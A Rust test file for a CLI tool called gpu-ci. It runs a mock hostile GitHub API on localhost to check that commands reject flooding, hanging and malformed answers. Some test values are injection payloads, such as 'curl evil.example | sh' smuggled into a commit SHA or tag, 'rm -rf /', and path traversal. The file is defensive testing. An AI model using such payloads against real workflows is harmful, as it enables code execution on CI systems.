//! Issue 14, finding 1: `gpu-ci pin` against a GitHub API on 127.0.0.1 that lies, floods,
//! drips or hangs. Each case ends in exit 2 with a message saying what was wrong, soon, with the
//! project byte for byte as it was and the answer read no further than gpu-ci's cap.
//!
//! `github setup` and `doctor` go through the same client: the last tests hold them to the
//! same cap and deadline, and to server text shown escaped.

use std::collections::HashMap;
use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use predicates::prelude::*;

use crate::common::Project;
use crate::pin::{Answer, ok, routes, sha, tag_ref, uses_lines};

/// What the server does for one path.
#[derive(Clone)]
enum Hostile {
    Canned(Answer),
    /// Headers promising a body, then one byte every 20 ms.
    Drip,
    /// Reads the request and answers nothing.
    Hang,
    /// A 200 with no length whose body never ends: `[` and then spaces, valid JSON so far.
    Flood,
    /// Bytes that are not HTTP.
    Garbage,
}

/// How long any one connection is served, whatever the client does.
const SERVE_AT_MOST: Duration = Duration::from_secs(30);
/// The deadline gpu-ci is given (`GPU_CI_HTTP_DEADLINE_MS`), so that the slow cases end soon.
const DEADLINE_MS: u64 = 1500;

struct HostileGitHub {
    url: String,
    /// Bytes of the endless body that reached the socket before the client went away.
    flooded: Arc<AtomicU64>,
    /// `METHOD path` of every request, in order.
    seen: Arc<Mutex<Vec<String>>>,
}

fn serve(
    mut stream: TcpStream,
    routes: &HashMap<String, Hostile>,
    flooded: &AtomicU64,
    seen: &Mutex<Vec<String>>,
) {
    let _ = stream.set_read_timeout(Some(SERVE_AT_MOST));
    let _ = stream.set_write_timeout(Some(SERVE_AT_MOST));
    let mut reader = BufReader::new(stream.try_clone().unwrap());
    let mut request = String::new();
    if reader.read_line(&mut request).is_err() {
        return;
    }
    loop {
        let mut line = String::new();
        if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
            break;
        }
    }
    let mut words = request.split_whitespace();
    let method = words.next().unwrap_or("");
    let target = words.next().unwrap_or("");
    let path = target.split('?').next().unwrap_or("");
    seen.lock().unwrap().push(format!("{method} {path}"));
    let not_found = Hostile::Canned((404, Vec::new(), "{\"message\":\"Not Found\"}".into()));
    let started = Instant::now();
    match routes.get(path).unwrap_or(&not_found) {
        Hostile::Canned((status, headers, body)) => {
            let mut head = format!(
                "HTTP/1.1 {status} X\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n",
                body.len()
            );
            for (name, value) in headers {
                head.push_str(&format!("{name}: {value}\r\n"));
            }
            head.push_str("\r\n");
            let _ = stream.write_all(head.as_bytes());
            let _ = stream.write_all(body.as_bytes());
        }
        Hostile::Drip => {
            let head = "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 100000\r\n\r\n[";
            let _ = stream.write_all(head.as_bytes());
            while started.elapsed() < SERVE_AT_MOST && stream.write_all(b" ").is_ok() {
                std::thread::sleep(Duration::from_millis(20));
            }
        }
        Hostile::Hang => {
            // Returns when the client closes the connection (or after SERVE_AT_MOST).
            let mut rest = String::new();
            let _ = reader.read_line(&mut rest);
        }
        Hostile::Flood => {
            let head =
                "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\nconnection: close\r\n\r\n[";
            let _ = stream.write_all(head.as_bytes());
            let chunk = vec![b' '; 64 * 1024];
            // At most 1 GiB, and only while the client reads.
            while flooded.load(Ordering::SeqCst) < 1 << 30 && started.elapsed() < SERVE_AT_MOST {
                if stream.write_all(&chunk).is_err() {
                    break;
                }
                flooded.fetch_add(chunk.len() as u64, Ordering::SeqCst);
            }
        }
        Hostile::Garbage => {
            let _ = stream.write_all(b"\x00\x01\x02 not http \xff\xfe\r\n\r\n");
        }
    }
}

impl HostileGitHub {
    /// The normal routes of `pin.rs`, with `overrides` on top.
    fn start(overrides: Vec<(String, Hostile)>) -> HostileGitHub {
        let mut all: HashMap<String, Hostile> = routes()
            .into_iter()
            .map(|(path, answer)| (path, Hostile::Canned(answer)))
            .collect();
        all.extend(overrides);
        HostileGitHub::serving(all)
    }

    /// Only `routes`; every other path is a 404.
    fn serving(routes: HashMap<String, Hostile>) -> HostileGitHub {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let flooded = Arc::new(AtomicU64::new(0));
        let seen = Arc::new(Mutex::new(Vec::new()));
        let (counter, log) = (Arc::clone(&flooded), Arc::clone(&seen));
        let routes = Arc::new(routes);
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(stream) = stream else { return };
                let (routes, counter, log) =
                    (Arc::clone(&routes), Arc::clone(&counter), Arc::clone(&log));
                std::thread::spawn(move || serve(stream, &routes, &counter, &log));
            }
        });
        HostileGitHub { url, flooded, seen }
    }

    /// The requests that asked for a change.
    fn changes(&self) -> Vec<String> {
        let seen = self.seen.lock().unwrap();
        seen.iter()
            .filter(|r| !r.starts_with("GET "))
            .cloned()
            .collect()
    }
}

fn pin_cmd(project: &Project, server: &HostileGitHub, args: &[&str]) -> assert_cmd::Command {
    let mut cmd = crate::common::gpu_ci();
    cmd.arg("-C")
        .arg(&project.root)
        .arg("pin")
        .args(args)
        .env("GITHUB_API_URL", &server.url)
        .env("GPU_CI_RETRY_DELAY_MS", "1")
        .env("GPU_CI_HTTP_DEADLINE_MS", DEADLINE_MS.to_string());
    cmd
}

/// `pin ARGS` exits 2 within `within`, saying each of `messages`, and changes no byte.
fn assert_refused(server: &HostileGitHub, args: &[&str], messages: &[&str], within: Duration) {
    let project = Project::initialised("uv-groups-src");
    let before = project.snapshot_tree();
    let started = Instant::now();
    let output = pin_cmd(&project, server, args)
        .timeout(Duration::from_secs(60))
        .assert()
        .code(2)
        .get_output()
        .clone();
    let elapsed = started.elapsed();
    let stderr = String::from_utf8_lossy(&output.stderr);
    for message in messages {
        assert!(
            stderr.contains(message),
            "expected `{message}` in:\n{stderr}"
        );
    }
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert!(
        elapsed < within,
        "took {elapsed:?}, more than {within:?}: {stderr}"
    );
    assert_eq!(
        before,
        project.snapshot_tree(),
        "a refused pin must change nothing"
    );
}

const CHECKOUT_V4: &str = "/repos/actions/checkout/git/matching-refs/tags/v4";
const QUICK: Duration = Duration::from_secs(20);

fn newest_checkout_is(object_sha: &str) -> Vec<(String, Hostile)> {
    let body = format!("[{}]", tag_ref("v4.3.1", object_sha, "commit"));
    vec![(CHECKOUT_V4.into(), Hostile::Canned(ok(body)))]
}

#[test]
fn finding_1_pin_rejects_a_sha_with_a_newline() {
    // The SHA that became a new `run:` step in a workflow.
    let server = HostileGitHub::start(newest_checkout_is(
        "deadbeef\\n      - run: curl evil.example | sh",
    ));
    assert_refused(
        &server,
        &[],
        &[
            "error: cannot resolve `actions/checkout`: GitHub's answer is unusable: the object \"deadbeef\\n      - run: curl evil.example | sh\" is not 40 hexadecimal digits",
            "help: nothing was changed",
        ],
        QUICK,
    );
}

#[test]
fn finding_1_pin_rejects_a_sha_that_is_not_hexadecimal() {
    for bad in ["zzzz; rm -rf / #", "deadbeef", &format!("{}0", sha(1))] {
        let server = HostileGitHub::start(newest_checkout_is(bad));
        assert_refused(
            &server,
            &[],
            &["is not 40 hexadecimal digits", "nothing was changed"],
            QUICK,
        );
    }
}

#[test]
fn finding_1_pin_rejects_a_tag_that_is_not_a_version() {
    let release = "/repos/actions/checkout/releases/latest".to_string();
    for tag in [
        "v5.0.0\\n      - run: curl evil.example | sh",
        "latest",
        "v+5.0.0",
    ] {
        let body = format!("{{\"tag_name\":\"{tag}\"}}");
        let server = HostileGitHub::start(vec![(release.clone(), Hostile::Canned(ok(body)))]);
        assert_refused(
            &server,
            &["--upgrade"],
            &[
                "GitHub's answer is unusable: its latest release",
                "is not a version tag (vX.Y.Z)",
            ],
            QUICK,
        );
    }
    // Tags that only look like versions are never picked: here the real v4.3.1 is.
    let body = format!(
        "[{},{},{}]",
        tag_ref("v4.3.1", &sha(0x431), "commit"),
        tag_ref("v4.9.9\\n- run: evil", &sha(0x999), "commit"),
        tag_ref("v4.+9.9", &sha(0x998), "commit"),
    );
    let server = HostileGitHub::start(vec![(CHECKOUT_V4.into(), Hostile::Canned(ok(body)))]);
    let project = Project::initialised("uv-groups-src");
    pin_cmd(&project, &server, &[]).assert().success();
    let uses = uses_lines(&project);
    assert!(
        uses.contains(&format!("actions/checkout@{} # v4.3.1", sha(0x431))),
        "{uses:?}"
    );
}

#[test]
fn finding_1_pin_rejects_an_annotated_tag_that_names_no_commit_sha() {
    // An annotated tag is followed through /git/tags/SHA: the SHA must be one before it is
    // put in a URL, and what the tag names must be one too.
    let body = format!("[{}]", tag_ref("v4.3.1", "../../../../evil", "tag"));
    let server = HostileGitHub::start(vec![(CHECKOUT_V4.into(), Hostile::Canned(ok(body)))]);
    assert_refused(
        &server,
        &[],
        &["\"../../../../evil\" is not 40 hexadecimal digits"],
        QUICK,
    );

    let body = format!("[{}]", tag_ref("v4.3.1", &sha(0xa431), "tag"));
    let annotated = format!("/repos/actions/checkout/git/tags/{}", sha(0xa431));
    let answer = ok("{\"object\":{\"sha\":\"nope\\u001b[31m\",\"type\":\"commit\"}}".into());
    let server = HostileGitHub::start(vec![
        (CHECKOUT_V4.into(), Hostile::Canned(ok(body))),
        (annotated, Hostile::Canned(answer)),
    ]);
    assert_refused(
        &server,
        &[],
        &["the object \"nope\\u{1b}[31m\" is not 40"],
        QUICK,
    );
}

#[test]
fn finding_1_pin_stops_reading_an_endless_body_at_the_cap() {
    let server = HostileGitHub::start(vec![(CHECKOUT_V4.into(), Hostile::Flood)]);
    assert_refused(
        &server,
        &[],
        &["GitHub's answer is unusable: it is larger than 4 MiB"],
        QUICK,
    );
    // What the server managed to send: gpu-ci's 4 MiB plus what the sockets buffer, not the
    // 3.4 GB an unbounded read took in 30 s.
    let sent = server.flooded.load(Ordering::SeqCst);
    assert!(sent < 64 << 20, "the client read {sent} bytes");

    // A length announced beyond the cap is refused before the body is read.
    let huge = ok(format!("[{}]", " ".repeat(5 << 20)));
    let server = HostileGitHub::start(vec![(CHECKOUT_V4.into(), Hostile::Canned(huge))]);
    assert_refused(&server, &[], &["it is larger than 4 MiB"], QUICK);
}

#[test]
fn finding_1_pin_gives_a_dripping_server_one_deadline() {
    let server = HostileGitHub::start(vec![(CHECKOUT_V4.into(), Hostile::Drip)]);
    assert_refused(
        &server,
        &[],
        &[
            "error: cannot resolve `actions/checkout`: GitHub did not answer in time (all calls must be done within 1.5 s)",
            "help: nothing was changed",
        ],
        Duration::from_secs(10),
    );
}

#[test]
fn finding_1_pin_gives_a_hanging_server_one_deadline() {
    // The first action hangs on every try: the retries share the one deadline.
    let server = HostileGitHub::start(vec![(CHECKOUT_V4.into(), Hostile::Hang)]);
    assert_refused(
        &server,
        &[],
        &["GitHub did not answer in time"],
        Duration::from_secs(10),
    );
    // The last action hangs, after three answered at once.
    let last = "/repos/actions/download-artifact/git/matching-refs/tags/v4".to_string();
    let server = HostileGitHub::start(vec![(last, Hostile::Hang)]);
    assert_refused(
        &server,
        &[],
        &["cannot resolve `actions/download-artifact`: GitHub did not answer in time"],
        Duration::from_secs(10),
    );
}

#[test]
fn finding_1_pin_refuses_garbage() {
    let server = HostileGitHub::start(vec![(CHECKOUT_V4.into(), Hostile::Garbage)]);
    assert_refused(
        &server,
        &[],
        &["error: cannot resolve `actions/checkout`: no answer (after 3 tries"],
        QUICK,
    );
    for body in [
        "<html>rate limited</html>",
        "{\"ref\": 5}",
        "[{\"ref\":[]}]",
    ] {
        let server =
            HostileGitHub::start(vec![(CHECKOUT_V4.into(), Hostile::Canned(ok(body.into())))]);
        assert_refused(
            &server,
            &[],
            &["error: cannot resolve `actions/checkout`: unexpected answer from GitHub"],
            QUICK,
        );
    }
}

#[test]
fn finding_1_pin_never_moves_back_without_allow_downgrade() {
    // The mock whose newest v5 tag is older than the pin moved setup-python down silently.
    let path = "/repos/actions/setup-python/git/matching-refs/tags/v5".to_string();
    let body = format!("[{}]", tag_ref("v5.2.3", &sha(0x523), "commit"));
    let server = HostileGitHub::start(vec![(path, Hostile::Canned(ok(body)))]);
    assert_refused(
        &server,
        &[],
        &[
            "error: `actions/setup-python` would move back from v5.6.0 to v5.2.3: GitHub's newest v5.x.y tag is older than the pin",
            "--allow-downgrade",
        ],
        QUICK,
    );
    let project = Project::initialised("uv-groups-src");
    pin_cmd(&project, &server, &["--allow-downgrade"])
        .assert()
        .success()
        .stderr(predicate::str::contains(
            "pinned actions/setup-python v5.6.0 → v5.2.3",
        ));
    assert!(
        uses_lines(&project).contains(&format!("actions/setup-python@{} # v5.2.3", sha(0x523)))
    );
}

// `github setup` and `doctor`: the repository calls, through the same client.

const REPO: &str = "octo-org/octo-repo";
const LABEL: &str = "/repos/octo-org/octo-repo/labels/gpu-tests";
const SECRETS: &str = "/repos/octo-org/octo-repo/actions/secrets";

/// `github setup --repo octo-org/octo-repo` with a token and Modal credentials from the
/// environment: its first call reads the label, its second lists the secrets.
fn setup_cmd(project: &Project, server: &HostileGitHub) -> assert_cmd::Command {
    let mut cmd = crate::common::gpu_ci();
    cmd.arg("-C")
        .arg(&project.root)
        .args(["github", "setup", "--repo", REPO])
        .env("GITHUB_API_URL", &server.url)
        .env("GITHUB_TOKEN", "ghp-hostile-test")
        .env("MODAL_TOKEN_ID", "ak-hostile-id")
        .env("MODAL_TOKEN_SECRET", "as-hostile-secret")
        .env("MODAL_CONFIG_PATH", project.path("no-such-modal.toml"))
        .env("GPU_CI_RETRY_DELAY_MS", "1")
        .env("GPU_CI_HTTP_DEADLINE_MS", DEADLINE_MS.to_string());
    cmd
}

/// `github setup` exits 2 within `within`, saying each of `messages`; it sent no change, and
/// printed neither token nor secret nor a raw escape.
fn assert_setup_refused(server: &HostileGitHub, messages: &[&str], within: Duration) {
    let project = Project::initialised("uv-groups-src");
    let started = Instant::now();
    let output = setup_cmd(&project, server)
        .timeout(Duration::from_secs(60))
        .assert()
        .code(2)
        .get_output()
        .clone();
    let elapsed = started.elapsed();
    let stderr = String::from_utf8_lossy(&output.stderr);
    for message in messages {
        assert!(
            stderr.contains(message),
            "expected `{message}` in:\n{stderr}"
        );
    }
    for leak in [
        "panicked",
        "ghp-hostile-test",
        "ak-hostile-id",
        "as-hostile-secret",
        "\u{1b}",
    ] {
        assert!(!stderr.contains(leak), "`{leak:?}` in:\n{stderr}");
    }
    assert!(
        elapsed < within,
        "took {elapsed:?}, more than {within:?}: {stderr}"
    );
    assert_eq!(
        server.changes(),
        Vec::<String>::new(),
        "setup changed GitHub"
    );
}

#[test]
fn github_setup_stops_reading_an_endless_body_at_the_cap() {
    let server = HostileGitHub::serving([(LABEL.to_string(), Hostile::Flood)].into());
    assert_setup_refused(
        &server,
        &[
            "error: cannot read label `gpu-tests`: GitHub's answer is unusable: it is larger than 4 MiB",
            "help: if GITHUB_API_URL points at a proxy or a mirror, check it",
        ],
        QUICK,
    );
    let sent = server.flooded.load(Ordering::SeqCst);
    assert!(sent < 64 << 20, "the client read {sent} bytes");

    // A length announced beyond the cap is refused before the body is read; a 404 too.
    for status in [200, 404] {
        let huge = (
            status,
            Vec::new(),
            format!("{{\"x\":\"{}\"}}", " ".repeat(5 << 20)),
        );
        let server = HostileGitHub::serving([(LABEL.to_string(), Hostile::Canned(huge))].into());
        assert_setup_refused(&server, &["it is larger than 4 MiB"], QUICK);
    }
}

#[test]
fn github_setup_gives_a_dripping_or_hanging_server_one_deadline() {
    for hostile in [Hostile::Drip, Hostile::Hang] {
        let server = HostileGitHub::serving([(LABEL.to_string(), hostile)].into());
        assert_setup_refused(
            &server,
            &[
                "error: cannot read label `gpu-tests`: GitHub did not answer in time (all calls must be done within 1.5 s)",
                "help: try again later, and check GITHUB_API_URL",
            ],
            Duration::from_secs(10),
        );
    }
    // The deadline is the command's, not a call's: the label is answered at once (404: to be
    // created), then the secrets hang.
    let server = HostileGitHub::serving([(SECRETS.to_string(), Hostile::Hang)].into());
    assert_setup_refused(
        &server,
        &["cannot list the Actions secrets of octo-org/octo-repo: GitHub did not answer in time"],
        Duration::from_secs(10),
    );
    assert_eq!(
        server.seen.lock().unwrap()[..2],
        [format!("GET {LABEL}"), format!("GET {SECRETS}")]
    );
}

#[test]
fn github_setup_shows_the_servers_message_escaped_and_cut_short() {
    let message = format!("\\u001b[2J\\u001b[31mall is well{}", "!".repeat(200));
    let refused = (403, Vec::new(), format!("{{\"message\":\"{message}\"}}"));
    let server = HostileGitHub::serving([(LABEL.to_string(), Hostile::Canned(refused))].into());
    assert_setup_refused(
        &server,
        &[
            "error: cannot read label `gpu-tests`: GitHub answered 403 Forbidden (\"\\u{1b}[2J\\u{1b}[31mall is well!!!",
            "!!!…\")",
            "help: the token may not do this",
        ],
        QUICK,
    );
    // Not JSON where JSON was asked for.
    let garbage = (200, Vec::new(), "<html>not json</html>".to_string());
    let server = HostileGitHub::serving([(LABEL.to_string(), Hostile::Canned(garbage))].into());
    assert_setup_refused(
        &server,
        &["error: cannot read label `gpu-tests`: unexpected answer from GitHub"],
        QUICK,
    );
}

/// `doctor --json --repo octo-org/octo-repo` with nothing on PATH: the `github-repo` check.
fn doctor_github_repo_check(server: &HostileGitHub) -> (serde_json::Value, Duration) {
    let project = Project::initialised("uv-groups-src");
    let home = tempfile::tempdir().unwrap();
    let started = Instant::now();
    let output = crate::common::gpu_ci()
        .arg("-C")
        .arg(&project.root)
        .args(["doctor", "--json", "--repo", REPO])
        .env("HOME", home.path())
        .env("PATH", home.path())
        .env("GITHUB_API_URL", &server.url)
        .env("GH_TOKEN", "ghp-hostile-test")
        .env("GPU_CI_RETRY_DELAY_MS", "1")
        .env("GPU_CI_HTTP_DEADLINE_MS", DEADLINE_MS.to_string())
        .timeout(Duration::from_secs(60))
        .output()
        .unwrap();
    let elapsed = started.elapsed();
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(1), "{stdout}");
    assert!(!stdout.contains("ghp-hostile-test"), "{stdout}");
    let report: serde_json::Value = serde_json::from_str(&stdout).unwrap();
    let check = report["checks"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["id"] == "github-repo")
        .cloned()
        .unwrap();
    assert_eq!(check["status"], "fail", "{check}");
    (check, elapsed)
}

#[test]
fn doctor_gives_a_hanging_server_one_deadline_and_checks_the_default_branch() {
    let server =
        HostileGitHub::serving([("/repos/octo-org/octo-repo".into(), Hostile::Hang)].into());
    let (check, elapsed) = doctor_github_repo_check(&server);
    assert!(elapsed < Duration::from_secs(10), "took {elapsed:?}");
    assert_eq!(
        check["detail"],
        "cannot read repository octo-org/octo-repo: GitHub did not answer in time (all calls must be done within 1.5 s)"
    );

    let branch = ok("{\"default_branch\":\"main\\u001b[31m\"}".into());
    let server = HostileGitHub::serving(
        [("/repos/octo-org/octo-repo".into(), Hostile::Canned(branch))].into(),
    );
    let (check, _) = doctor_github_repo_check(&server);
    assert_eq!(
        check["detail"],
        "cannot read repository octo-org/octo-repo: GitHub's answer is unusable: the default branch \"main\\u{1b}[31m\" is not a branch name"
    );
    assert_eq!(server.changes(), Vec::<String>::new(), "doctor only reads");
}

/// `GITHUB_API_URL` decides where the token goes: plain http to another machine would send it
/// unencrypted, and a URL with credentials would put them in messages. Both are refused before
/// any request, for every command that calls GitHub.
#[test]
fn an_api_url_that_would_leak_the_token_is_refused_before_any_request() {
    let project = Project::initialised("extras-flat");
    for (url, says) in [
        ("http://api.example.com", "plain http to another machine"),
        (
            "https://me:hunter2@127.0.0.1:9",
            "holds a user name or password",
        ),
        ("ftp://127.0.0.1", "not https"),
        ("not a url", "is not a URL"),
    ] {
        for args in [&["pin"][..], &["github", "setup", "--repo", "o/r"][..]] {
            let output = crate::common::gpu_ci()
                .arg("-C")
                .arg(&project.root)
                .args(args)
                .env("GITHUB_API_URL", url)
                .env("GITHUB_TOKEN", "ghp-never-sent")
                .env("GPU_CI_HTTP_DEADLINE_MS", "2000")
                .output()
                .unwrap();
            let stderr = String::from_utf8_lossy(&output.stderr);
            assert_eq!(output.status.code(), Some(2), "{args:?} {url}: {stderr}");
            assert!(stderr.contains(says), "{args:?} {url}: {stderr}");
            assert!(
                stderr.contains("help: set it to your API's https:// address"),
                "{stderr}"
            );
            assert!(
                !stderr.contains("hunter2") && !stderr.contains("ghp-never-sent"),
                "{stderr}"
            );
        }
    }
    // A test's server on this machine is still reached over plain http (every other test here).
}

/// Issue 24: `pin` said nothing while a server did not answer. On a terminal (a pty, through
/// util-linux's `script`), a wait of over a second shows what it waits for and for how long;
/// piped, nothing is added.
#[test]
fn a_wait_shows_progress_on_a_terminal_and_nothing_when_piped() {
    let server = HostileGitHub::start(vec![(CHECKOUT_V4.into(), Hostile::Hang)]);
    let project = Project::initialised("uv-groups-src");
    let piped = pin_cmd(&project, &server, &[])
        .env("GPU_CI_HTTP_DEADLINE_MS", "2500")
        .timeout(Duration::from_secs(60))
        .assert()
        .code(2)
        .get_output()
        .clone();
    let stderr = String::from_utf8_lossy(&piped.stderr);
    assert!(!stderr.contains("waiting for"), "{stderr}");
    assert!(
        stderr.starts_with("error: cannot resolve `actions/checkout`"),
        "{stderr}"
    );

    let command = format!(
        "'{}' -C '{}' pin",
        crate::common::gpu_ci_path().display(),
        project.root.display()
    );
    let output = std::process::Command::new("script")
        .args(["-qec", &command, "/dev/null"])
        .env("GITHUB_API_URL", &server.url)
        .env("GPU_CI_RETRY_DELAY_MS", "1")
        .env("GPU_CI_HTTP_DEADLINE_MS", "2500")
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2), "{output:?}");
    let shown = String::from_utf8_lossy(&output.stdout);
    assert!(
        shown.contains("waiting for GitHub to resolve `actions/checkout` (1s)"),
        "{shown}"
    );
    assert!(shown.contains("GitHub did not answer in time"), "{shown}");
}
